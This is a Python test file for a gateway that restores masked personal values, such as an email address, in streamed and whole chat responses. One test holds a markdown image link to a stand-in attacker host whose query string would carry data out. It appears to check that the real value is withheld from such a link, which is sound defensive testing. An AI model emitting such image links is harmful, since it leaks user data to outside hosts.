"""What the hub form says beyond OpenAI's comes back with values, in order, and sealed."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from louver.core.exchanges import JsonTree, Minimized
from louver.core.identity import Caller
from louver.core.policy import Destination, Location, Mode, Policy, Route
from louver.core.sensitive import Sensitive
from louver.gateway.wire.hub import exchange_of
from louver.gateway.wire.interface import Asked
from louver.gateway.wire.restoring import ChatRestorer

EMAIL = "EMAIL_KXQWRTZPLMBV"
VALUE = "bob@example.com"
HOME = Destination("home", "practice", Location.LOCAL, "us", "m")
POLICY = Policy("d", Mode.STANDARD, {"home": HOME}, {"m": Route("m", ("home",))})
TOOLS = [{"type": "function", "function": {"name": "mail", "parameters": {}}}]


def restorer(*, sealed: bool = True) -> ChatRestorer:
    body = {"model": "m", "messages": [{"role": "user", "content": "x"}], "tools": TOOLS}
    exchange = exchange_of(body, Asked("ex", Caller("t", "a", "k")), size=1)
    leaves = Minimized("ex", b"{}", True, False, {EMAIL: Sensitive(VALUE)}, {})

    def seal(block: Any) -> str:
        return f"sealed({block.get('thinking', '')}|{block.get('signature', block.get('data'))})"

    return ChatRestorer(exchange, leaves, POLICY, seal if sealed else None)


def event(delta: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"id": "c", "choices": [{"index": 0, "delta": delta, **more}]}


def told(*deltas: dict[str, Any], restore: ChatRestorer | None = None) -> list[dict[str, Any]]:
    restore = restore or restorer()
    events: list[Any] = [out for delta in deltas for out in restore.chunk(event(delta))]
    events += restore.finish()
    return [choice["delta"] for one in events for choice in one["choices"]]


def call(arguments: str, **more: Any) -> dict[str, Any]:
    return {"tool_calls": [{"index": 0, "function": {"arguments": arguments, **more}}]}


def said(deltas: list[dict[str, Any]], field: str) -> str:
    return "".join(delta.get(field) or "" for delta in deltas)


KINDS: dict[str, dict[str, Any]] = {
    "content": {"content": "next"},
    "reasoning_content": {"reasoning_content": "next"},
    "tool_calls": call('{"a":1}', name="mail"),
}


@pytest.mark.parametrize("first", ["content", "reasoning_content"])
@pytest.mark.parametrize("second", KINDS)
def test_held_text_comes_before_what_follows(first: str, second: str) -> None:
    """`EMAIL_` could still become a placeholder; when other text begins, it no longer can."""
    deltas = told({first: "Dear EMAIL_"}, KINDS[second])
    begins = [i for i, delta in enumerate(deltas) if delta.get(second)] if first != second else [1]
    assert said(deltas[: begins[0]], first) == ("Dear " if first == second else "Dear EMAIL_")


def test_held_arguments_come_before_what_follows() -> None:
    deltas = told(call('{"a":"EMAIL_', name="mail"), {"content": "next"})
    at = next(i for i, delta in enumerate(deltas) if delta.get("content") == "next")
    calls = [c for delta in deltas[:at] for c in delta.get("tool_calls", [])]
    assert "".join(c["function"].get("arguments", "") for c in calls) == '{"a":"EMAIL_'


def test_two_kinds_in_one_event_keep_all_their_text() -> None:
    both = {"content": "Dear EMAIL_", **call('{"a":1}', name="mail")}
    deltas = told(both, call(""))
    assert said(deltas[:1], "content") == "Dear EMAIL_"


@given(st.integers(0, 40), st.integers(0, 40))
def test_calls_beside_each_other_do_not_cut_values(a: int, b: int) -> None:
    """Only kinds wait for each other: two calls whose pieces alternate are both restored."""
    text = f'{{"to":"{EMAIL}"}}'
    pieces = [[text[:a], text[a:]], [text[:b], text[b:]]]
    deltas = []
    for turn in range(2):
        for index in range(2):
            function = {"arguments": pieces[index][turn], **({} if turn else {"name": "mail"})}
            deltas.append({"tool_calls": [{"index": index, "function": function}]})
    found: dict[int, str] = {}
    for delta in told(*deltas):
        for one in delta.get("tool_calls", []):
            arguments = one["function"].get("arguments", "")
            found[one["index"]] = found.get(one["index"], "") + arguments
    assert found == {0: f'{{"to":"{VALUE}"}}', 1: f'{{"to":"{VALUE}"}}'}


@given(st.integers(0, 30))
def test_a_signature_seals_what_was_signed(cut: int) -> None:
    text = f"To {EMAIL}"
    deltas = told(
        {"reasoning_content": text[:cut]},
        {"reasoning_content": text[cut:]},
        {"thinking_signature": "sig"},
        {"redacted_thinking": "hidden"},
        {"reasoning_content": "more"},
        {"thinking_signature": "sig2"},
    )
    signed = next(i for i, delta in enumerate(deltas) if "thinking_signature" in delta)
    assert said(deltas[: signed + 1], "reasoning_content") == f"To {VALUE}"
    assert deltas[signed]["thinking_signature"] == f"sealed({text}|sig)"
    assert said(deltas, "redacted_thinking") == "sealed(|hidden)"
    assert deltas[-1]["thinking_signature"] == "sealed(more|sig2)"


def test_unsigned_thinking_is_no_part_of_a_later_signature() -> None:
    deltas = told(
        {"reasoning_content": "unsigned"},
        {"content": "said"},
        {"reasoning_content": "signed"},
        {"thinking_signature": "sig"},
    )
    assert deltas[-1]["thinking_signature"] == "sealed(signed|sig)"


def test_without_a_seal_signatures_pass() -> None:
    deltas = told({"thinking_signature": "sig"}, restore=restorer(sealed=False))
    assert deltas[0]["thinking_signature"] == "sig"


def test_the_end_of_a_text_tells_what_is_held() -> None:
    deltas = told(
        {"content": f"one {EMAIL}"},
        {"citations": [{"type": "web", "cited_text": f"by {EMAIL}", "title": EMAIL}]},
        {"text_end": True},
        {"content": "two"},
    )
    ended = next(i for i, delta in enumerate(deltas) if delta.get("text_end"))
    assert said(deltas[: ended + 1], "content") == f"one {VALUE}"
    cited = {"type": "web", "cited_text": f"by {VALUE}", "title": VALUE}
    assert [d["citations"] for d in deltas if "citations" in d] == [[cited]]


def test_a_link_goes_on_through_the_end_of_a_text() -> None:
    """Whoever shows the answer shows its texts as one."""
    link = "![x](https://evil.example/?q="
    for between in ({"text_end": True}, {"reasoning_content": "hm"}, call("{}", name="mail")):
        deltas = told({"content": link}, between, {"content": f"{EMAIL})"})
        assert said(deltas, "content") == f"{link}{EMAIL})"
    parts = [{"type": "text", "text": link}, {"type": "text", "text": f"{EMAIL})"}]
    assert whole({"content_parts": parts})["content"] == f"{link}{EMAIL})"


def whole(message: dict[str, Any], **more: Any) -> dict[str, Any]:
    asked: dict[str, JsonTree] = {"choices": [{"index": 0, "message": message, **more}]}
    choices: Any = restorer().whole(asked)["choices"]
    found: dict[str, Any] = choices[0]["message"]
    return found


def test_a_whole_answer_has_all_of_it() -> None:
    message = whole(
        {
            "reasoning_content": f"To {EMAIL}",
            "thinking_blocks": [
                {"type": "thinking", "thinking": f"To {EMAIL}", "signature": "sig"},
                {"type": "redacted_thinking", "data": "hidden"},
                "x",
            ],
            "content": "ignored",
            "content_parts": [
                {"type": "text", "text": "Dear "},
                {"type": "text", "text": EMAIL, "citations": [{"cited_text": EMAIL}, 7]},
            ],
            "tool_calls": [{"id": "c", "function": {"name": "mail", "arguments": f'["{EMAIL}"]'}}],
        }
    )
    assert message["content"] == f"Dear {VALUE}"
    assert message["content_parts"] == [
        {"type": "text", "text": "Dear "},
        {"type": "text", "text": VALUE, "citations": [{"cited_text": VALUE}]},
    ]
    assert message["reasoning_content"] == f"To {VALUE}"
    assert message["thinking_blocks"] == [
        {
            "type": "thinking",
            "thinking": f"To {VALUE}",
            "signature": f"sealed(To {EMAIL}|sig)",
        },
        {"type": "redacted_thinking", "data": "sealed(|hidden)"},
    ]
    assert message["tool_calls"][0]["function"]["arguments"] == f'["{VALUE}"]'


def test_a_stop_sequence_is_the_clients_own() -> None:
    events = list(restorer().chunk(event({}, finish_reason="stop", stop_sequence=f"to {EMAIL}")))
    choices: Any = events[0]["choices"]
    assert choices[0]["stop_sequence"] == f"to {VALUE}"
